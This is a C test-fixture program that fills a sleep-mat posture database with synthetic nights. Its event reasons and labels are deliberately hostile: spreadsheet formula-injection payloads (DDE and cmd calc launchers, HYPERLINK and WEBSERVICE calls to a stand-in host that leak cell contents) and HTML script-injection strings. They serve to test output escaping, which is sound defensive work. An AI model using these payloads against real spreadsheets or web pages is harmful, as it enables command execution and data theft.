/*
 * hostile_nights DB: two nights whose names and reasons are what a spreadsheet must not run, a page
 * must not render and a reader must not lose: formulas, umlauts, markup, quotes, line ends.
 */
#include <math.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include "storage/store.h"

static const char *const reasons[] = {
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://example.invalid\")",
    "=IMPORTXML(\"http://example.invalid\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(A1:A9)",
    "=A1",
    "==1",
    "=-1",
    "=@SUM(1)",
    "=\"a\"&\"b\"",
    "={1,2}",
    "=EXEC(\"calc\")",
    "=INDIRECT(\"A1\")",
    "+1+1",
    "+49 30 1234",
    "+cmd|' /C calc'!A0",
    "+SUM(A1)",
    "-1-1",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(A1)",
    "@SUM(1+1)",
    "@A1",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\t@SUM(1)",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1,2",
    "=1+1;2",
    "=1+\n1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></table><b>&amp;",
    "unter die Bettdecke geschlüpft, später größer",
    "早上好 ☕ καλημέρα",
    "say \"no\", then 'yes'",
    "two\nlines",
    "NULL",
    "1e5",
    "2026-03-01",
};
enum { REASONS = sizeof reasons / sizeof *reasons, EPOCHS = 60 };

static const int64_t second_us = 1000000;
/* 2026-03-28 22:30 UTC: summer time begins in this night in Berlin. */
static const int64_t start_us = INT64_C(1774737000) * 1000000;

static void fill_epochs(struct pmat_epoch *epochs, int64_t from_us)
{
    float none = NAN;
    for (int32_t i = 0; i < EPOCHS; i++)
        epochs[i] = (struct pmat_epoch){.index = i,
                                        .start_utc_us = from_us + i * PMAT_EPOCH_S * second_us,
                                        .boottime_us = i * PMAT_EPOCH_S * second_us,
                                        .duration_s = PMAT_EPOCH_S,
                                        .posture = i < 40 ? PMAT_POSTURE_LEFT : PMAT_POSTURE_SUPINE,
                                        .confidence = 0.91f,
                                        .details = i == 3 ? PMAT_DETAIL_ALL : 0u,
                                        .lumbar_arch = i < 40 ? none : 0.25f,
                                        .pelvis_roll_deg = 82.5f,
                                        .hip_stack = i < 40 ? 0.75f : none,
                                        .torso_twist_deg = -12.25f,
                                        .fetal = none,
                                        .axis_deg = 3.5f,
                                        .load_left_frac = 0.5f,
                                        .contact_area_frac = 0.3f,
                                        .peak_pressure = 812.5f,
                                        .dispersion = 0.4f,
                                        .movement = 0.0125f,
                                        .breath_rate_per_min = 14.2f,
                                        .load = 60000};
}

static void fill_events(struct pmat_event *events, int64_t from_us)
{
    for (int i = 0; i < REASONS; i++) {
        events[i] = (struct pmat_event){.start_utc_us = from_us + i * 10 * second_us,
                                        .duration_s = NAN,
                                        .kind = PMAT_EVENT_NOTE};
        snprintf(events[i].reason, sizeof events[i].reason, "%s", reasons[i]);
    }
}

static enum pmat_err store_one(struct pmat_store *store, const char *mat, int64_t from_us,
                               struct pmat_fault *fault)
{
    static struct pmat_epoch epochs[EPOCHS];
    static struct pmat_event events[REASONS];
    static const struct pmat_flag flag = {.name = "=flag",
                                          .severity = PMAT_SEVERITY_WATCH,
                                          .minutes = 20,
                                          .longest_min = 10,
                                          .share_frac = 0.5f,
                                          .threshold = 0.25f,
                                          .evidence = "+evidence",
                                          .advice = "-advice, für später",
                                          .source = "@source"};
    struct pmat_night_view view = {.epochs = epochs,
                                   .epoch_count = EPOCHS,
                                   .events = events,
                                   .event_count = REASONS,
                                   .flags = &flag,
                                   .flag_count = 1};
    struct pmat_session *session = &view.row.session;
    fill_epochs(epochs, from_us);
    fill_events(events, from_us);
    snprintf(view.row.key.mat, sizeof view.row.key.mat, "%s", mat);
    snprintf(view.row.key.zone, sizeof view.row.key.zone, "Europe/Berlin");
    pmat_zone_night_label("Europe/Berlin", from_us, view.row.key.night);
    snprintf(view.provenance.unit, sizeof view.provenance.unit, "counts");
    snprintf(view.provenance.calibration_id, sizeof view.provenance.calibration_id, "=calibration");
    view.provenance.profile_text = "name = =mat\nserial = SN-SECRET-42\n";
    session->start_utc_us = from_us;
    session->end_utc_us = from_us + EPOCHS * PMAT_EPOCH_S * second_us;
    session->epochs = EPOCHS;
    session->time_in_bed_min = 30;
    session->posture_min[PMAT_POSTURE_LEFT] = 20;
    session->posture_min[PMAT_POSTURE_SUPINE] = 10;
    session->position_changes = 1;
    session->changes_per_h = 2;
    session->longest_still_min = 20;
    session->longest_still_posture = PMAT_POSTURE_LEFT;
    session->mean_confidence = 0.91f;
    snprintf(session->end_reason, sizeof session->end_reason, "=got up");
    view.row.lumbar_arch_median = 0.25f;
    view.row.hip_stack_median = 0.75f;
    view.row.breath_rate_median_per_min = NAN;
    return pmat_store_import(store, &view, NULL, fault);
}

int main(int argc, char **argv)
{
    struct pmat_store *store = NULL;
    struct pmat_fault fault = {0};
    if (argc != 2) {
        fputs("usage: hostile_nights DB\n", stderr);
        return 64;
    }
    umask(077);
    enum pmat_err err = pmat_store_open(&store, argv[1], PMAT_STORE_WRITE, &fault);
    if (err == PMAT_OK)
        err = store_one(store, "=Schlafzimmer(\"Süd\")", start_us, &fault);
    if (err == PMAT_OK)
        err = store_one(store, "Bett, \"groß\"", start_us + 86400 * second_us, &fault);
    pmat_store_close(store);
    if (err != PMAT_OK)
        fprintf(stderr, "hostile_nights: %s\n", fault.text);
    return pmat_err_exit_code(err);
}
